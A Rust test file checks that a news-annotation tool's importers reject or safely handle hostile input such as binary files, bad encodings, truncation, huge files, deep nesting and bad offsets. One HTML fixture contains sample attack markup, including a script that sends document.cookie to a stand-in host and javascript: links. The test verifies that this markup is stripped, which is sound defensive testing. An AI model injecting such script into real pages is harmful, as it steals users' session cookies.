//! Every importer against hostile input: binary files, invalid UTF-8,
//! truncated files, huge files and lines, deep nesting, offsets that do not
//! fit, spans that split a character, unknown labels, duplicated ids,
//! symlink loops, active HTML. Each case has one exact outcome: an error
//! that names the file (and the line or offset where one is known), or a
//! clean import with the bad record left out and reported. Nothing panics.
//!
//! The fuzz targets in `fuzz/` run the same entry points on random input;
//! their runs so far found no crash (figures in `fuzz/README.md`), so no
//! fuzzer input is kept here. The last test is a small deterministic sweep
//! of the same kind that runs with every `cargo test`.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use dossier::data::import::{self as data_import, ImportOptions};
use dossier::import::annotated::{self, ImportedKind, brat, corpus_command, jsonl, labelstudio};
use dossier::import::{ImportError, read_bytes_lenient, read_paths};
use dossier::model::{Document, DocumentMeta, Project};
use dossier::project::{self, ProjectError};

/// The first bytes of a real PNG file: signature, then the IHDR chunk whose
/// length field starts with NUL bytes at offset 8.
const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x10\0\0\0\x10\x08\x06\0\0\0\x1f\xf3\xffa";

const ARTICLE: &str = "“We will spend 4% of GDP on defence in 2024,” said Władysław Kosiniak-Kamysz in Kraków — a pledge NATO welcomed 👍.\n";

fn write(dir: &Path, name: &str, bytes: &[u8]) -> PathBuf {
    let p = dir.join(name);
    fs::write(&p, bytes).unwrap();
    p
}

fn dossier() -> Command {
    Command::new(env!("CARGO_BIN_EXE_dossier"))
}

/// A file of `len` bytes that takes no disk space: reading it would take
/// seconds, so a quick refusal shows the size was checked first.
fn sparse(dir: &Path, name: &str, len: u64) -> PathBuf {
    let p = dir.join(name);
    fs::File::create(&p).unwrap().set_len(len).unwrap();
    p
}

/// The one error of reading `path` as articles.
fn article_error(path: &Path) -> ImportError {
    let r = read_paths(&[path]);
    assert!(r.articles.is_empty(), "{:?}", r.articles);
    assert_eq!(r.errors.len(), 1, "{:?}", r.errors);
    let e = r.errors.into_iter().next().unwrap();
    assert_eq!(e.path, path);
    e
}

fn a_project() -> Project {
    let mut p = Project::new("hostile");
    let id = p.fresh_doc_id();
    p.documents
        .push(Document::new(id, DocumentMeta::default(), ARTICLE.into()));
    let suggestions = dossier::annotate::suggest(&mut p, id).expect("suggestions");
    suggestions.apply(&mut p).unwrap();
    assert!(p.documents[0].annotations().len() >= 3);
    p
}

fn project_json() -> serde_json::Value {
    serde_json::from_str(&project::to_json(&a_project())).unwrap()
}

fn load_project_value(dir: &Path, v: &serde_json::Value) -> Result<Project, ProjectError> {
    let p = write(dir, "p.dossier", v.to_string().as_bytes());
    project::load(&p)
}

// ---------------------------------------------------------------- binary

#[test]
fn a_binary_file_is_refused_by_every_importer_with_the_offset_of_its_nul() {
    let dir = tempfile::tempdir().unwrap();
    for ext in ["txt", "md", "html", "json", "jsonl"] {
        let p = write(dir.path(), &format!("image.{ext}"), PNG);
        let e = article_error(&p);
        assert_eq!(
            e.message, "this looks like a binary file (NUL byte at offset 8), not text",
            "{ext}"
        );
    }
    let csv = write(dir.path(), "figures.csv", PNG);
    let e = data_import::import_file(&csv, &ImportOptions::default()).unwrap_err();
    assert!(matches!(e, data_import::ImportError::Binary(_)), "{e:?}");
    assert!(
        e.to_string()
            .starts_with("figures.csv: this looks like a binary file")
    );

    // Annotated formats are UTF-8 only: 0x89 is where it fails.
    let corpus = write(dir.path(), "corpus.jsonl", PNG);
    let e = jsonl::read(&corpus).unwrap_err();
    assert_eq!(e.path, corpus);
    assert!(
        e.message
            .starts_with("not UTF-8: invalid utf-8 sequence of 1 bytes from index 0"),
        "{e}"
    );
    let tasks = write(dir.path(), "tasks.json", PNG);
    let e = labelstudio::read(&tasks).unwrap_err();
    assert_eq!(e.path, tasks);
    assert!(e.message.starts_with("not UTF-8"), "{e}");
    write(dir.path(), "doc.txt", PNG);
    let ann = write(dir.path(), "doc.ann", b"T1\tGPE 0 4\tPNG\n");
    let e = brat::read(&ann).unwrap_err();
    assert_eq!(e.path, dir.path().join("doc.txt"));

    let proj = write(dir.path(), "binary.dossier", PNG);
    match project::load(&proj) {
        Err(ProjectError::Syntax {
            path, line, column, ..
        }) => {
            assert_eq!((path, line, column), (proj, 1, 1));
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn the_command_line_reports_a_binary_file_and_annotates_the_rest() {
    let dir = tempfile::tempdir().unwrap();
    let png = write(dir.path(), "scan.txt", PNG);
    let good = write(dir.path(), "good.txt", ARTICLE.as_bytes());
    let out = dossier()
        .arg("annotate")
        .arg(&png)
        .arg(&good)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains(&format!(
            "{}: this looks like a binary file (NUL byte at offset 8)",
            png.display()
        )),
        "{stderr}"
    );
    assert_eq!(String::from_utf8(out.stdout).unwrap().lines().count(), 1);

    let csv = write(dir.path(), "figures.csv", PNG);
    let out = dossier()
        .args(["chart", "--data"])
        .arg(&csv)
        .arg("-o")
        .arg(dir.path().join("c.svg"))
        .output()
        .unwrap();
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("figures.csv: this looks like a binary file"),
        "{stderr}"
    );
    assert!(!dir.path().join("c.svg").exists());
}

// ---------------------------------------------------------- invalid UTF-8

#[test]
fn invalid_utf8_is_read_as_a_legacy_encoding_or_refused_where_offsets_count() {
    let dir = tempfile::tempdir().unwrap();
    // Windows-1252: curly quotes 0x93/0x94, ó 0xF3. Not UTF-8.
    let bytes = b"\x93Poland will spend 4%,\x94 said the minister in Krak\xf3w.\n";
    let p = write(dir.path(), "legacy.txt", bytes);
    let r = read_paths(&[&p]);
    assert!(r.errors.is_empty(), "{:?}", r.errors);
    assert_eq!(
        r.articles[0].text,
        "“Poland will spend 4%,” said the minister in Kraków.\n"
    );

    let csv = write(
        dir.path(),
        "legacy.csv",
        b"country,year,value\nT\xfcrkiye,2023,1.6\n",
    );
    let imp = data_import::import_file(&csv, &ImportOptions::default()).unwrap();
    assert_eq!(imp.dataset.observations()[0].iso3, "TUR");

    // Annotated files carry offsets into the exact text: no guessing.
    let corpus = write(dir.path(), "c.jsonl", b"{\"text\":\"Krak\xf3w\"}\n");
    let e = jsonl::read(&corpus).unwrap_err();
    assert_eq!(e.path, corpus);
    assert!(
        e.message
            .contains("invalid utf-8 sequence of 1 bytes from index 13"),
        "{e}"
    );

    let mut v = project_json();
    v["name"] = "x".into();
    let mut bytes = v.to_string().into_bytes();
    let at = bytes.windows(3).position(|w| w == b"\"x\"").unwrap() + 1;
    bytes[at] = 0xFF;
    let proj = write(dir.path(), "bad.dossier", &bytes);
    match project::load(&proj) {
        Err(ProjectError::Syntax {
            path,
            line,
            message,
            ..
        }) => {
            assert_eq!((path, line), (proj, 1));
            assert!(message.contains("invalid unicode code point"), "{message}");
        }
        other => panic!("{other:?}"),
    }
}

// -------------------------------------------------------------- truncated

#[test]
fn truncated_files_fail_at_their_end_and_earlier_records_still_load() {
    let dir = tempfile::tempdir().unwrap();
    let json = "[\n{\"title\": \"Poland\", \"text\": \"“Poland will spend 4%”\"},\n{\"title\": \"Latvia\", \"te";
    let p = write(dir.path(), "articles.json", json.as_bytes());
    let e = article_error(&p);
    assert_eq!(e.line, Some(3));
    assert!(
        e.message.starts_with("not valid JSON: EOF while parsing"),
        "{e}"
    );

    let lines = "{\"text\": \"Poland — 4%\"}\n{\"text\": \"Latvia — 2.4%\"}\n{\"text\": \"Swe";
    let p = write(dir.path(), "articles.jsonl", lines.as_bytes());
    let r = read_paths(&[&p]);
    assert_eq!(r.articles.len(), 2);
    assert_eq!(r.errors.len(), 1);
    assert_eq!(r.errors[0].line, Some(3));
    assert!(
        r.errors[0].message.contains("EOF while parsing a string"),
        "{}",
        r.errors[0]
    );

    let full = project::to_json(&a_project());
    let cut = &full[..full.len() / 2];
    let p = write(dir.path(), "half.dossier", cut.as_bytes());
    match project::load(&p) {
        Err(ProjectError::Syntax {
            path,
            line,
            message,
            ..
        }) => {
            assert_eq!(path, p);
            assert_eq!(line, cut.matches('\n').count() + 1);
            assert!(message.starts_with("EOF while parsing"), "{message}");
        }
        other => panic!("{other:?}"),
    }
    // On the command line: the file and its line on stderr, a non-zero
    // exit, and the file left as it was.
    let out = dossier().arg("annotate").arg(&p).output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    let line = cut.matches('\n').count() + 1;
    assert!(
        stderr.contains(&format!("{}:{line}:", p.display()))
            && stderr.contains("not a valid Dossier project"),
        "{stderr}"
    );
    assert_eq!(fs::read(&p).unwrap(), cut.as_bytes());

    // A corpus cut in its last record: the whole records load.
    let mut corpus = String::new();
    for text in ["Poland — 4%", "Latvia — 2.4%"] {
        corpus.push_str(&serde_json::json!({"id": text, "text": text, "entities": [{"start": 0, "end": 6, "label": "GPE"}]}).to_string());
        corpus.push('\n');
    }
    corpus.push_str("{\"text\": \"Sweden");
    let p = write(dir.path(), "c.jsonl", corpus.as_bytes());
    let c = jsonl::read(&p).unwrap();
    assert_eq!(c.documents.len(), 2);
    assert_eq!(c.issues.len(), 1);
    assert_eq!(c.issues[0].line, Some(3));

    let tasks = "[\n{\"data\": {\"text\": \"Poland\"}},\n{\"data\": {\"te";
    let p = write(dir.path(), "tasks.json", tasks.as_bytes());
    let e = labelstudio::read(&p).unwrap_err();
    assert_eq!((e.path.as_path(), e.line), (p.as_path(), Some(3)));
}

// ------------------------------------------------------------------ sizes

#[test]
fn a_file_over_the_size_limit_is_refused_at_once_with_the_limit_named() {
    let dir = tempfile::tempdir().unwrap();
    let started = Instant::now();
    for ext in ["txt", "html", "json"] {
        let p = sparse(dir.path(), &format!("huge.{ext}"), 60_000_000);
        let e = article_error(&p);
        assert_eq!(
            e.message,
            "the file is 60.0 MB; Dossier opens articles up to 50 MB"
        );
    }
    let csv = sparse(dir.path(), "huge.csv", 60_000_000);
    let e = data_import::import_file(&csv, &ImportOptions::default()).unwrap_err();
    assert_eq!(
        e.to_string(),
        "huge.csv: the file is 60.0 MB; Dossier imports CSV data up to 50 MB"
    );
    // Corpora hold many articles: their limit is higher, and named.
    let corpus = sparse(dir.path(), "huge.jsonl", 210_000_000);
    let e = jsonl::read(&corpus).unwrap_err();
    assert_eq!(e.path, corpus);
    assert_eq!(
        e.message,
        "the file is 210.0 MB; Dossier imports annotated files up to 200 MB"
    );
    let e = labelstudio::read(&sparse(dir.path(), "huge_tasks.json", 210_000_000)).unwrap_err();
    assert!(e.message.ends_with("up to 200 MB"), "{e}");
    let proj = sparse(dir.path(), "huge.dossier", 600_000_000);
    let e = project::load(&proj).unwrap_err();
    assert!(matches!(e, ProjectError::TooLarge { .. }));
    assert_eq!(
        e.to_string(),
        format!(
            "{}: the file is 600.0 MB; Dossier opens projects up to 512 MB",
            proj.display()
        )
    );
    // Nothing was read: reading would have taken far longer.
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "{:?}",
        started.elapsed()
    );

    let out = dossier()
        .arg("annotate")
        .arg(dir.path().join("huge.txt"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("huge.txt: the file is 60.0 MB; Dossier opens articles up to 50 MB"),
        "{stderr}"
    );
}

#[test]
fn a_five_megabyte_line_is_read_whole() {
    let dir = tempfile::tempdir().unwrap();
    let sentence = "Poland’s defence budget — 4.12% of GDP — grows again. ";
    let line: String = sentence.repeat(5_000_000 / sentence.len() + 1);
    assert!(line.len() > 5_000_000 && !line.contains('\n'));

    let txt = write(dir.path(), "line.txt", line.as_bytes());
    let html = write(dir.path(), "line.html", format!("<p>{line}</p>").as_bytes());
    let jsonl_file = write(
        dir.path(),
        "line.jsonl",
        serde_json::json!({"title": "One line", "text": line})
            .to_string()
            .as_bytes(),
    );
    let r = read_paths(&[&txt, &html, &jsonl_file]);
    assert!(r.errors.is_empty(), "{:?}", r.errors);
    assert_eq!(r.articles.len(), 3);
    assert_eq!(r.articles[0].text, line);
    assert_eq!(r.articles[1].text, format!("{}\n", line.trim_end()));
    assert_eq!(r.articles[2].text, line);

    let csv = write(
        dir.path(),
        "line.csv",
        format!(
            "country,year,value,notes\nPoland,2024,4.12,{}\n",
            line.replace(',', ";")
        )
        .as_bytes(),
    );
    let imp = data_import::import_file(&csv, &ImportOptions::default()).unwrap();
    assert_eq!(imp.dataset.observations().len(), 1);

    // An annotation at the far end of the line is found in the right place.
    let start = line.chars().count() - sentence.chars().count();
    let record = serde_json::json!({"text": line, "entities": [{"start": start, "end": start + 6, "text": "Poland", "label": "GPE"}]});
    let c = jsonl::parse(&record.to_string(), Path::new("line.jsonl"));
    assert!(c.issues.is_empty(), "{:?}", c.issues);
    let span = c.documents[0].annotations[0].span;
    assert_eq!(&line[span.start..span.end], "Poland");
}

// ---------------------------------------------------------- deep nesting

#[test]
fn json_nested_a_hundred_thousand_deep_is_an_error_not_a_stack_overflow() {
    let dir = tempfile::tempdir().unwrap();
    let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    let p = write(dir.path(), "deep.json", deep.as_bytes());
    let e = article_error(&p);
    assert_eq!(e.line, Some(1));
    assert!(e.message.contains("recursion limit exceeded"), "{e}");

    let p = write(
        dir.path(),
        "deep.jsonl",
        format!("{{\"text\":\"a\"}}\n{deep}\n").as_bytes(),
    );
    let r = read_paths(&[&p]);
    assert_eq!(r.articles.len(), 1);
    assert_eq!(r.errors[0].line, Some(2));
    assert!(r.errors[0].message.contains("recursion limit exceeded"));

    let e = labelstudio::parse(&deep, Path::new("deep.json")).unwrap_err();
    assert!(e.message.contains("recursion limit exceeded"), "{e}");
    let c = jsonl::parse(&deep, Path::new("deep.jsonl"));
    assert!(c.documents.is_empty());
    assert!(c.issues[0].message.contains("recursion limit exceeded"));
    match project::from_json(deep.as_bytes(), Path::new("deep.dossier")) {
        Err(ProjectError::Syntax { message, .. }) => {
            assert!(message.contains("recursion limit exceeded"), "{message}")
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn html_nested_twenty_thousand_deep_keeps_its_text() {
    // The visible-text walk used to recurse once per element: this page
    // overflowed a test thread's stack (an abort, not a panic). Deeper
    // pages parse too, but html5ever's scope checks make the parse take
    // time that grows with the square of the depth (see fuzz/README.md).
    let depth = 20_000;
    let page = format!(
        "<title>Deep</title>{}<p>Latvia spends 2.4% — “a floor”.</p>{}",
        "<div>".repeat(depth),
        "</div>".repeat(depth)
    );
    let (articles, errors) = read_bytes_lenient(Path::new("deep.html"), page.as_bytes());
    assert!(errors.is_empty());
    assert_eq!(articles[0].meta.title, "Deep");
    assert_eq!(articles[0].text, "Latvia spends 2.4% — “a floor”.\n");
    let nested_b = format!(
        "<p>{}Poland{}</p>",
        "<b>".repeat(depth),
        "</b>".repeat(depth)
    );
    let (articles, _) = read_bytes_lenient(Path::new("b.html"), nested_b.as_bytes());
    assert_eq!(articles[0].text, "Poland\n");
}

// ---------------------------------------------------------------- offsets

#[test]
fn offsets_past_the_end_negative_or_reversed_are_left_out_and_reported() {
    let text = "Kosiniak-Kamysz met Pistorius in Kraków 👍.";
    let record = serde_json::json!({
        "id": "d1",
        "text": text,
        "entities": [
            {"start": 0, "end": 15, "text": "Kosiniak-Kamysz", "label": "PERSON"},
            {"start": 40, "end": 99, "label": "GPE"},
            {"start": -3, "end": 4, "label": "GPE"},
            {"start": 30, "end": 20, "label": "GPE"},
            {"start": 33, "end": 33, "label": "GPE"},
            {"start": 33, "end": 39, "text": "Kraków", "label": "GPE"},
        ],
        "quotes": [{"start": 0, "end": 15, "speaker_start": 50, "speaker_end": 60}],
    });
    let c = jsonl::parse(&format!("\n{record}\n"), Path::new("c.jsonl"));
    let doc = &c.documents[0];
    let covered: Vec<&str> = doc
        .annotations
        .iter()
        .map(|a| &text[a.span.start..a.span.end])
        .collect();
    assert_eq!(covered, ["Kosiniak-Kamysz", "Kraków", "Kosiniak-Kamysz"]);
    let issues: Vec<String> = c.issues.iter().map(ToString::to_string).collect();
    assert_eq!(
        issues,
        [
            "c.jsonl:2: entity 2: offsets 40..99 are past the end of the text (42 characters)",
            "c.jsonl:2: entity 3: no start and end",
            "c.jsonl:2: entity 4: offsets 30..20 are empty or reversed",
            "c.jsonl:2: entity 5: offsets 33..33 are empty or reversed",
            "c.jsonl:2: quote 1: speaker offsets 50..60 are past the end of the text (42 characters)",
        ]
    );

    let ann = "T1\tPERSON 0 15\tKosiniak-Kamysz\nT2\tGPE 33 99\tKraków\nT3\tGPE -1 4\tKosi\nT4\tGPE 39 33\tKraków\n";
    let (anns, issues) = brat::parse_ann(text, ann, Path::new("d.ann"));
    assert_eq!(anns.len(), 1);
    let issues: Vec<String> = issues.iter().map(ToString::to_string).collect();
    assert_eq!(
        issues,
        [
            "d.ann:2: T2: offsets 33 99 are past the end of the text (42 characters)",
            "d.ann:3: T3: bad offsets \"-1 4\"",
            "d.ann:4: T4: offsets 39 33 are empty or reversed",
        ]
    );

    let tasks = serde_json::json!([{"data": {"text": text}, "annotations": [{"result": [
        {"id": "a", "type": "labels", "from_name": "label", "value": {"start": 20, "end": 29, "labels": ["PERSON"]}},
        {"id": "b", "type": "labels", "from_name": "label", "value": {"start": 20, "end": 4000, "labels": ["PERSON"]}},
        {"id": "c", "type": "labels", "from_name": "label", "value": {"start": -1, "end": 4, "labels": ["PERSON"]}},
    ]}]}]);
    let c = labelstudio::parse(&tasks.to_string(), Path::new("t.json")).unwrap();
    assert_eq!(c.documents[0].annotations.len(), 1);
    let issues: Vec<String> = c.issues.iter().map(ToString::to_string).collect();
    assert_eq!(
        issues,
        [
            "t.json:1: task 1: region b: offsets 20..4000 are past the end of the text (42 characters)",
            "t.json:1: task 1: region c has no start and end",
        ]
    );

    // A project's spans are its own work: one that does not fit refuses
    // the file, which is left untouched, rather than dropping it silently.
    let dir = tempfile::tempdir().unwrap();
    let mut v = project_json();
    let start = v["documents"][0]["annotations"][0]["start"].clone();
    v["documents"][0]["annotations"][0]["end"] = 4000.into();
    let e = load_project_value(dir.path(), &v).unwrap_err();
    assert!(matches!(e, ProjectError::Invalid { .. }));
    assert!(
        e.to_string()
            .contains(&format!(": span {start}..4000 does not fit the text")),
        "{e}"
    );
    let mut v = project_json();
    let (s, t) = (
        v["documents"][0]["annotations"][1]["start"].clone(),
        v["documents"][0]["annotations"][1]["end"].clone(),
    );
    v["documents"][0]["annotations"][1]["start"] = t.clone();
    v["documents"][0]["annotations"][1]["end"] = s.clone();
    let e = load_project_value(dir.path(), &v).unwrap_err();
    assert!(
        e.to_string()
            .contains(&format!(": span {t}..{s} does not fit the text")),
        "{e}"
    );
    let mut v = project_json();
    v["documents"][0]["annotations"][0]["start"] = (-1).into();
    match load_project_value(dir.path(), &v) {
        Err(ProjectError::Syntax {
            line,
            column,
            message,
            ..
        }) => {
            assert_eq!(line, 1);
            assert!(column > 1);
            assert!(
                message.starts_with("invalid value: integer `-1`"),
                "{message}"
            );
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn byte_offsets_that_split_a_character_are_caught_by_the_covered_text() {
    // A tool that wrote UTF-8 byte offsets instead of characters: in this
    // text they run past "é" and into the emoji's four bytes.
    let text = "Café 👍 Kraków";
    let byte_start = text.find("Kraków").unwrap();
    let record = serde_json::json!({"text": text, "entities": [
        {"start": byte_start, "end": byte_start + "Kraków".len(), "text": "Kraków", "label": "GPE"},
        {"start": 5, "end": 9, "text": "👍", "label": "MISC"},
    ]});
    let c = jsonl::parse(&record.to_string(), Path::new("bytes.jsonl"));
    assert!(c.documents[0].annotations.is_empty());
    let issues: Vec<String> = c.issues.iter().map(ToString::to_string).collect();
    assert_eq!(
        issues,
        [
            "bytes.jsonl:1: entity 1: offsets 11..18 are past the end of the text (13 characters)",
            "bytes.jsonl:1: entity 2: offsets 5..9 cover \"👍 Kr\", but the file says \"👍\"",
        ]
    );
    let (anns, issues) = brat::parse_ann(text, "T1\tGPE 3 4\tQ\n", Path::new("x.ann"));
    assert!(anns.is_empty());
    assert_eq!(
        issues[0].to_string(),
        "x.ann:1: T1: offsets 3 4 cover \"é\", but the file says \"Q\""
    );
    // Counted in characters, a span can never land inside one.
    let (anns, issues) = brat::parse_ann(text, "T1\tMISC 5 6\t👍\n", Path::new("x.ann"));
    assert!(issues.is_empty());
    assert_eq!(&text[anns[0].span.start..anns[0].span.end], "👍");
}

// ------------------------------------------------------ labels and ids

#[test]
fn unknown_labels_are_imported_as_new_labels() {
    let text = "The Patriot system guards Rzeszów.";
    let ann = "T1\tWEAPON_SYSTEM 4 11\tPatriot\nT2\tGPE 26 33\tRzeszów\n";
    let (anns, issues) = brat::parse_ann(text, ann, Path::new("w.ann"));
    assert!(issues.is_empty(), "{issues:?}");
    let corpus = annotated::ImportedCorpus {
        documents: vec![annotated::ImportedDocument {
            meta: DocumentMeta::default(),
            text: text.into(),
            annotations: anns,
        }],
        ..Default::default()
    };
    let mut p = Project::new("labels");
    assert!(p.labels.get("WEAPON_SYSTEM").is_none());
    corpus_command(&mut p, &corpus)
        .unwrap()
        .apply(&mut p)
        .unwrap();
    let label = p.labels.get("WEAPON_SYSTEM").expect("the new label");
    assert_eq!(label.description, "Imported");
    assert_eq!(p.documents[0].annotations().len(), 2);
}

#[test]
fn duplicated_ids_are_reported_and_nothing_is_imported_twice() {
    // brat: a repeated T id used to replace the first annotation and import
    // the second one twice.
    let text = "Austin met Pistorius in Berlin.";
    let ann = "T1\tPERSON 0 6\tAustin\nT1\tGPE 24 30\tBerlin\nT2\tPERSON 11 20\tPistorius\n";
    let (anns, issues) = brat::parse_ann(text, ann, Path::new("d.ann"));
    let covered: Vec<&str> = anns
        .iter()
        .map(|a| &text[a.span.start..a.span.end])
        .collect();
    assert_eq!(covered, ["Austin", "Pistorius"]);
    assert_eq!(issues.len(), 1);
    assert_eq!(
        issues[0].to_string(),
        "d.ann:2: T1: this id is used twice; the first one was kept"
    );

    // Label Studio: a second labels result with the same region id.
    let tasks = serde_json::json!([{"data": {"text": text}, "annotations": [{"result": [
        {"id": "r1", "type": "labels", "from_name": "label", "value": {"start": 0, "end": 6, "labels": ["PERSON"]}},
        {"id": "r1", "type": "labels", "from_name": "label", "value": {"start": 24, "end": 30, "labels": ["GPE"]}},
    ]}]}]);
    let c = labelstudio::parse(&tasks.to_string(), Path::new("t.json")).unwrap();
    assert_eq!(c.documents[0].annotations.len(), 1);
    assert!(
        matches!(&c.documents[0].annotations[0].kind, ImportedKind::Entity { label, .. } if label == "PERSON")
    );
    assert_eq!(
        c.issues[0].to_string(),
        "t.json:1: task 1: region r1 is labelled twice; the first one was kept"
    );

    // JSON Lines: two records with one id are both kept, and reported.
    let lines = format!(
        "{}\n{}\n",
        serde_json::json!({"id": 7, "text": text}),
        serde_json::json!({"id": 7, "text": "Another text."})
    );
    let c = jsonl::parse(&lines, Path::new("c.jsonl"));
    assert_eq!(c.documents.len(), 2);
    assert_eq!(
        c.issues[0].to_string(),
        "c.jsonl:2: document id \"7\" was already used on line 1; both were imported"
    );

    // A project file: any repeated id refuses the file.
    let dir = tempfile::tempdir().unwrap();
    let mut v = project_json();
    let doc = v["documents"][0].clone();
    v["documents"].as_array_mut().unwrap().push(doc);
    let e = load_project_value(dir.path(), &v).unwrap_err();
    let id = &v["documents"][0]["id"];
    assert!(
        e.to_string()
            .ends_with(&format!("document id {id} is used twice")),
        "{e}"
    );
    let mut v = project_json();
    let first = v["documents"][0]["annotations"][0]["id"].clone();
    v["documents"][0]["annotations"][1]["id"] = first.clone();
    let e = load_project_value(dir.path(), &v).unwrap_err();
    assert!(
        e.to_string()
            .ends_with(&format!("annotation {first}: id used twice")),
        "{e}"
    );
}

// ------------------------------------------------------------- folders

#[cfg(unix)]
#[test]
fn a_symlink_loop_in_a_folder_is_skipped_and_reported() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("articles");
    fs::create_dir_all(root.join("sub")).unwrap();
    write(&root, "a.txt", ARTICLE.as_bytes());
    write(
        &root.join("sub"),
        "b.md",
        b"# Riga\n\nLatvia spends 3.15%.\n",
    );
    std::os::unix::fs::symlink(&root, root.join("sub").join("back")).unwrap();
    std::os::unix::fs::symlink(root.join("self.txt"), root.join("self.txt")).unwrap();
    let r = read_paths(&[&root]);
    assert_eq!(r.articles.len(), 2);
    assert_eq!(r.skipped, [root.join("sub").join("back")]);
    assert_eq!(r.errors.len(), 1);
    assert_eq!(r.errors[0].path, root.join("self.txt"));
}

#[test]
fn a_batch_with_bad_files_loads_the_rest_and_names_each_bad_one() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    write(d, "01_good.txt", ARTICLE.as_bytes());
    write(d, "02_scan.txt", PNG);
    write(d, "03_broken.json", b"{\"text\": \"Poland");
    write(
        d,
        "04_page.html",
        b"<title>Riga</title><p>Latvia spends 3.15%.</p>",
    );
    write(
        d,
        "05_mixed.jsonl",
        b"{\"text\": \"Sweden joins.\"}\n[1, 2]\n",
    );
    write(d, "06_photo.png", PNG);
    let r = read_paths(&[d]);
    let titles: Vec<&str> = r.articles.iter().map(|a| a.meta.title.as_str()).collect();
    assert_eq!(titles, [ARTICLE.trim_end(), "Riga", "Sweden joins."]);
    let errors: Vec<(String, Option<usize>)> = r
        .errors
        .iter()
        .map(|e| {
            (
                e.path.file_name().unwrap().to_string_lossy().into_owned(),
                e.line,
            )
        })
        .collect();
    assert_eq!(
        errors,
        [
            ("02_scan.txt".to_owned(), None),
            ("03_broken.json".to_owned(), Some(1)),
            ("05_mixed.jsonl".to_owned(), Some(2)),
        ]
    );
    assert_eq!(r.skipped, [d.join("06_photo.png")]);
}

// ------------------------------------------------------------------ HTML

#[test]
fn html_is_read_as_data_scripts_frames_and_links_leave_no_trace() {
    let page = r#"<!doctype html><html><head><title>Baltic air policing</title>
        <script src="http://127.0.0.1:9/evil.js"></script>
        <script>fetch("http://127.0.0.1:9/steal?c=" + document.cookie)</script>
        <link rel="canonical" href="javascript:alert('canonical')">
        <meta http-equiv="refresh" content="0; url=http://127.0.0.1:9/">
        </head><body onload="alert('onload')">
        <p>Allied jets <a href="javascript:alert('link')">returned</a> to Šiauliai.</p>
        <iframe src="http://127.0.0.1:9/frame">Frame fallback text</iframe>
        <img src="http://127.0.0.1:9/pixel.gif" alt="tracking pixel" onerror="alert('img')">
        <noscript>Enable JavaScript</noscript><object data="x.swf">Plugin text</object>
        <svg><script>alert('svg')</script><text>SVG text</text></svg>
        <p>Lithuania spends 2.85% — “a floor, not a ceiling”.</p></body></html>"#;
    let (articles, errors) = read_bytes_lenient(Path::new("page.html"), page.as_bytes());
    assert!(errors.is_empty());
    let a = &articles[0];
    assert_eq!(
        a.text,
        "Allied jets returned to Šiauliai.\nLithuania spends 2.85% — “a floor, not a ceiling”.\n"
    );
    assert_eq!(a.meta.title, "Baltic air policing");
    // A `javascript:` address is not kept as the article's address.
    assert_eq!(a.meta.url, None);
    let (articles, _) = read_bytes_lenient(
        Path::new("p.html"),
        b"<link rel=canonical href='HTTPS://example.org/a'><p>x</p>",
    );
    assert_eq!(
        articles[0].meta.url.as_deref(),
        Some("HTTPS://example.org/a")
    );
}

fn fits(text: &str, span: dossier::text::Span) -> bool {
    dossier::text::Span::checked(span.start, span.end, text).is_some() && !span.is_empty()
}

fn assert_corpus_fits(c: &annotated::ImportedCorpus) {
    for d in &c.documents {
        assert!(d.annotations.iter().all(|a| fits(&d.text, a.span)), "{d:?}");
    }
}

#[test]
fn every_in_memory_entry_point_survives_arbitrary_bytes() {
    // A deterministic sweep over short byte strings built from the bytes
    // that matter to the parsers: quotes, brackets, digits, separators,
    // multi-byte lead and continuation bytes, NUL, CR.
    let alphabet: &[u8] = b"{}[]\":,0-9\t\n\r \\Te\xc3\xa9\xf0\x9f\x91\x8d\xff\0<p>;#";
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    for _ in 0..3000 {
        let len = (state % 40) as usize;
        let mut bytes = Vec::with_capacity(len);
        for _ in 0..len {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            bytes.push(alphabet[(state % alphabet.len() as u64) as usize]);
        }
        for ext in ["txt", "md", "html", "json", "jsonl"] {
            let path = PathBuf::from(format!("x.{ext}"));
            let (articles, errors) = read_bytes_lenient(&path, &bytes);
            assert!(errors.iter().all(|e| e.path == path), "{errors:?}");
            assert!(articles.iter().all(|a| !a.meta.title.is_empty()));
        }
        match data_import::import_bytes(&bytes, "x.csv", &ImportOptions::default()) {
            Ok(imp) => assert!(
                imp.dataset
                    .observations()
                    .iter()
                    .all(|o| o.value.is_finite())
            ),
            Err(e) => assert!(e.to_string().starts_with("x.csv: "), "{e}"),
        }
        if let Err(e) = project::from_json(&bytes, Path::new("x.dossier")) {
            assert!(e.to_string().starts_with("x.dossier"), "{e}");
        }
        if let Ok(s) = annotated::text_from_bytes(Path::new("x"), bytes.clone()) {
            assert_corpus_fits(&jsonl::parse(&s, Path::new("x.jsonl")));
            if let Ok(c) = labelstudio::parse(&s, Path::new("x.json")) {
                assert_corpus_fits(&c);
            }
            let text = "Poland spends 4% — “Kraków” 👍.";
            let (anns, issues) = brat::parse_ann(text, &s, Path::new("x.ann"));
            assert!(issues.iter().all(|i| i.path == Path::new("x.ann")));
            assert!(anns.iter().all(|a| fits(text, a.span)));
        }
        state = state.wrapping_add(0x9e37_79b9_7f4a_7c15);
    }
}
